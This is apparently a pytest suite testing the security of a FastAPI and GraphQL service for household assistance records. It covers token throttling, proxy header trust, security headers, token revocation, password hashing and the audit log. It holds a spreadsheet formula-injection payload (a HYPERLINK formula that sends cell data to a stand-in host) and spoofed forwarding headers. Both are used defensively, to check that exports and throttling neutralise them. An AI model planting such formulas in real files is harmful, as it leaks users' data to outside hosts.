"""Security of the APIs, on both engines: failed tokens are throttled per address without ever
refusing a valid one, forwarded addresses are believed only from configured proxies, every answer
carries the security headers, expired and revoked tokens are refused everywhere (an admin revokes
through the running service), passwords are kept only as Argon2id hashes, and no route can change
or delete the audit trail."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import filecmp
import io
import re

import httpx
import pytest
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient

from api.app import create_app
from api.cli.main import server_config
from api.graphql.schema import schema
from graph_schema.access.audit import audit_entries
from graph_schema.access.service import issue_token, revoke_tokens, set_password, token_hash
from graph_schema.settings import Settings
from importers.csv_escape import runs_as_formula
from importers.engine import run_import
from importers.export import export

GRAPHQL = {"query": "{ household(householdNo: \"HA1\") { householdNo } }"}


def audit_count(store) -> int:
    return store.query("MATCH (a:AuditEntry) RETURN count(a) AS n")[0]["n"]


# --- throttling of failed tokens ---------------------------------------------------------------

def test_a_flood_of_bad_tokens_is_throttled(client, world):
    bad = {"Authorization": "Bearer not-a-token"}
    for _ in range(30):
        assert client.get("/api/v1/cadres", headers=bad).status_code == 401
    refused = client.get("/api/v1/cadres", headers=bad)
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) >= 1
    assert refused.json()["code"] == "TOO_MANY_ATTEMPTS" and "秒后重试" in refused.json()["message"]
    # the address's bad tokens wait, on REST and GraphQL alike, with no token at all too
    assert client.post("/graphql", json=GRAPHQL, headers=bad).status_code == 429
    assert client.get("/api/v1/cadres").status_code == 429


def test_a_valid_token_is_answered_after_30_bad_ones_from_its_address(client, world):
    """One portal polling with an expired token must not lock out the county office behind the
    same NAT address: valid tokens are checked first and answered, whatever failed before."""
    expired = {"Authorization": "Bearer expired-portal-token"}
    for _ in range(35):
        client.get("/api/v1/cadres", headers=expired)
    assert client.get("/api/v1/cadres", headers=expired).status_code == 429
    assert client.get("/api/v1/cadres", headers=world.auth("admin")).status_code == 200
    answer = client.post("/graphql", json=GRAPHQL, headers=world.auth("organizer-a"))
    assert answer.status_code == 200 and answer.json()["data"]["household"]["householdNo"] == "HA1"
    # a token first seen after the flood is looked up and answered too
    fresh = issue_token(store=world.store, user_id="portal-a")
    assert client.get("/api/v1/cadres", headers={"Authorization": f"Bearer {fresh}"}).status_code == 200


def test_the_window_passes(client, world):
    now = [1000.0]
    client.app.state.api_throttle.clock = lambda: now[0]
    for _ in range(30):
        client.post("/graphql", json=GRAPHQL)  # no token at all counts too
    assert client.get("/api/v1/cadres", headers={"Authorization": "Bearer nope"}).status_code == 429
    now[0] += 61
    assert client.get("/api/v1/cadres", headers={"Authorization": "Bearer nope"}).status_code == 401


def test_good_tokens_are_not_counted(client, world):
    for _ in range(40):
        assert client.get("/api/v1/cadres", headers=world.auth("portal-a")).status_code == 200


def _address_counted(store, forwarded_allow_ips: str) -> int:
    """Send 30 bad tokens from a loopback peer, each claiming another address in X-Forwarded-For,
    through the uvicorn configuration of `jiedui serve`; then one more bad token from a new claimed
    address: 429 if the 30 were counted against the peer, 401 if the header was believed."""
    app = create_app(store, audit_interval=0.05)
    config = server_config(app, host="127.0.0.1", port=0, settings=Settings(forwarded_allow_ips=forwarded_allow_ips))
    config.load()

    async def run() -> int:
        transport = httpx.ASGITransport(app=config.loaded_app, client=("127.0.0.1", 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
            for n in range(30):
                await http.get("/api/v1/cadres", headers={"Authorization": "Bearer bad",
                                                          "X-Forwarded-For": f"10.1.0.{n}"})
            last = await http.get("/api/v1/cadres", headers={"Authorization": "Bearer bad",
                                                             "X-Forwarded-For": "10.2.0.1"})
            return last.status_code

    try:
        return asyncio.run(run())
    finally:
        app.state.services.audit.close()


def test_forwarded_addresses_are_believed_only_from_the_configured_proxies(world):
    assert _address_counted(world.store, "") == 429  # by default the peer is the client
    assert _address_counted(world.store, "127.0.0.1") == 401  # behind a proxy on this machine


# --- formula injection through the APIs -----------------------------------------------------------

NOTE = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'
PROBLEM = "=1+1"


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def test_text_written_through_the_apis_reaches_csv_files_inert_and_round_trips(client, world, tmp_path):
    """A ledger note and a problem number written through REST and GraphQL are free text: every
    CSV file they reach starts them with an apostrophe, and the contract export (the backup's
    files) imports back to the same text and the same bytes."""
    day = dt.date.today().isoformat()
    sent = client.post("/api/v1/ledger", headers=world.auth("cadre-a"), json={
        "entry_date": day, "household_no": "HA1", "cadre_no": "CA1", "kind": "反映困难", "problem_no": PROBLEM,
        "note": NOTE})
    assert sent.status_code == 201, sent.text
    mutation = ('mutation { recordLedgerEntry(entry: {entryDate: "%s", householdNo: "HA1", cadreNo: "CA1", '
                'kind: "入户走访", note: "@SUM(A1:A9)"}) { note } }' % day)
    assert client.post("/graphql", json={"query": mutation}, headers=world.auth("cadre-a")).json()["data"]
    report = client.get("/api/v1/reports/open-problems", params={"format": "csv", "region": "620822"},
                        headers=world.auth("organizer-a"))
    assert report.status_code == 200
    written = csv_cells(report.content.decode("utf-8-sig"))
    assert "'" + PROBLEM in written and "'" + NOTE in written
    assert not [c for c in written if runs_as_formula(c)]

    export(world.store, tmp_path / "first")
    ledger = (tmp_path / "first" / "帮扶记录.csv").read_text(encoding="utf-8-sig")
    assert not [c for c in csv_cells(ledger) if runs_as_formula(c)]
    assert {"'" + NOTE, "'" + PROBLEM, "'@SUM(A1:A9)"} <= set(csv_cells(ledger))
    world.store.wipe()
    again = run_import(world.store, [tmp_path / "first"])
    assert again.exit_code == 0, again.problems[:3]
    notes = {r["note"] for r in world.store.query("MATCH ()-[e:ASSISTED]->() RETURN e.note AS note")}
    assert {NOTE, "@SUM(A1:A9)"} <= notes
    export(world.store, tmp_path / "second")
    names = sorted(p.name for p in (tmp_path / "first").iterdir())
    assert filecmp.cmpfiles(tmp_path / "first", tmp_path / "second", names, shallow=False)[0] == names


# --- headers -----------------------------------------------------------------------------------

def assert_secure(answer, *, cached: bool = False) -> None:
    h = answer.headers
    assert "default-src 'self'" in h["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
    assert h["X-Content-Type-Options"] == "nosniff"
    assert h["Referrer-Policy"] == "same-origin"
    assert h["X-Frame-Options"] == "DENY"
    assert "camera=()" in h["Permissions-Policy"]
    assert (h.get("Cache-Control") == "no-store") is not cached


def test_headers_on_every_kind_of_answer(client, world):
    strict = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; " \
             "frame-ancestors 'none'; form-action 'self'; base-uri 'none'"
    for answer in (client.get("/api/v1/households/HA1", headers=world.auth("admin")),
                   client.get("/api/v1/households/HA1"),  # 401
                   client.get("/api/v1/nothing-here"),  # 404
                   client.post("/graphql", json=GRAPHQL, headers=world.auth("admin")),
                   client.get("/openapi.json")):
        assert_secure(answer)
        assert answer.headers["Content-Security-Policy"] == strict
    assert_secure(client.get("/static/vendor/htmx.min.js"), cached=True)
    docs = client.get("/docs")  # Swagger UI, from the service's own files
    assert_secure(docs)
    assert docs.headers["Content-Security-Policy"] == strict
    assets = re.findall(r'(?:src|href)="([^"]+)"', docs.text)
    assert assets and all(a.startswith("/static/") for a in assets)
    for asset in assets:
        assert client.get(asset).status_code == 200, asset


# --- expired and revoked tokens ----------------------------------------------------------------

def refused_everywhere(client, token: str) -> None:
    auth = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v1/households/HA1", headers=auth).status_code == 401
    assert client.post("/graphql", json=GRAPHQL, headers=auth).status_code == 401
    client.cookies.set("jiedui_session", token)
    page = client.get("/unpaired", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"].startswith("/login")
    client.cookies.clear()


def test_an_expired_token_is_refused(world):
    token = issue_token(store=world.store, user_id="organizer-a", days=1)
    past = (dt.datetime.now(dt.timezone.utc) - dt.timedelta(minutes=1)).replace(microsecond=0).isoformat()
    world.store.write(lambda tx: tx.run("MATCH (t:Token {token_hash: $h}) SET t.expires_at = $at",
                                        {"h": token_hash(token), "at": past}))
    with TestClient(create_app(world.store, audit_interval=0.05)) as client:
        refused_everywhere(client, token)


def test_a_revoked_token_is_refused(world):
    token = world.tokens["organizer-a"]
    with TestClient(create_app(world.store, audit_interval=0.05, token_ttl=0.0)) as client:
        assert client.get("/api/v1/households/HA1", headers=world.auth("organizer-a")).status_code == 200
        assert revoke_tokens(store=world.store, user_id="organizer-a") == 1
        refused_everywhere(client, token)


def test_an_admin_revokes_a_user_while_the_service_runs(client, world):
    """The route `jiedui user revoke --server` calls: every token of the user (bearer tokens and
    console sessions) is refused from the next request on, though the service cached it."""
    portal = world.auth("portal-a")
    session = client.post("/login", data={"token": world.tokens["portal-a"]}, follow_redirects=False).cookies[
        "jiedui_session"]
    assert client.get("/api/v1/cadres", headers=portal).status_code == 200  # now in the token cache
    client.cookies.clear()
    done = client.post("/api/v1/users/portal-a/revoke", headers=world.auth("admin"))
    assert done.status_code == 200 and done.json() == {"user_id": "portal-a", "revoked": 2}
    refused_everywhere(client, world.tokens["portal-a"])
    refused_everywhere(client, session)
    client.app.state.services.audit.flush()
    writes = [e for e in audit_entries(store=world.store, user_id="admin").items if e.action == "write"]
    assert [(e.operation, e.object_kind, e.object_keys) for e in writes] == [
        ("POST /api/v1/users/{user_id}/revoke", "user", ["portal-a"])]


def test_only_admins_revoke_and_an_unknown_user_is_not_found(client, world):
    for user in ("organizer-a", "portal-a", "cadre-a", "org-a"):
        refused = client.post("/api/v1/users/admin/revoke", headers=world.auth(user))
        assert refused.status_code == 403 and refused.json()["code"] == "FORBIDDEN"
    assert client.get("/api/v1/cadres", headers=world.auth("admin")).status_code == 200
    unknown = client.post("/api/v1/users/nobody/revoke", headers=world.auth("admin"))
    assert unknown.status_code == 404 and "nobody" in unknown.json()["message_en"]
    too_long = client.post("/api/v1/users/" + "u" * 65 + "/revoke", headers=world.auth("admin"))
    assert too_long.status_code == 422
    assert client.post("/api/v1/users/admin/revoke").status_code == 401


# --- passwords -----------------------------------------------------------------------------------

def test_a_password_is_kept_only_as_an_argon2id_hash(client, world):
    secret = "correct horse battery"
    set_password(store=world.store, user_id="cadre-a", password=secret)
    stored = world.store.query("MATCH (u:User {user_id: 'cadre-a'}) RETURN u.password_hash AS h")[0]["h"]
    assert stored.startswith("$argon2id$") and secret not in stored
    assert client.post("/login", data={"user": "cadre-a", "password": secret},
                       follow_redirects=False).status_code == 303
    for label in ("User", "Token", "AuditEntry", "Region", "Household"):
        for row in world.store.query(f"MATCH (n:{label}) RETURN n AS n"):
            assert secret not in repr(row), label


# --- the audit trail cannot be edited -------------------------------------------------------------

def test_no_route_edits_the_audit_trail(client):
    routes = [(r.path, sorted(r.methods or []), r.name) for r in iter_route_contexts(client.app.routes)]
    assert len(routes) > 50  # every REST, GraphQL and console route
    assert [r for r in routes if "audit" in (r[0] + r[2]).lower()] == [("/api/v1/audit", ["GET"], "audit")]
    mutations = schema.mutation if hasattr(schema, "mutation") else None
    names = [f.name for f in schema.schema_converter.type_map["Mutation"].definition.fields] \
        if mutations is not None else []
    assert names and not [n for n in names if "audit" in n.lower()]
    assert "audit" not in str(schema.as_str()).lower()


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_every_other_method_on_the_audit_trail_is_refused(client, world, method):
    client.get("/api/v1/households/HA1", headers=world.auth("admin"))
    client.app.state.services.audit.flush()
    before = audit_count(world.store)
    assert before > 0
    answer = client.request(method, "/api/v1/audit", headers=world.auth("admin"), json={"entries": []})
    assert answer.status_code == 405
    client.app.state.services.audit.flush()
    assert audit_count(world.store) >= before
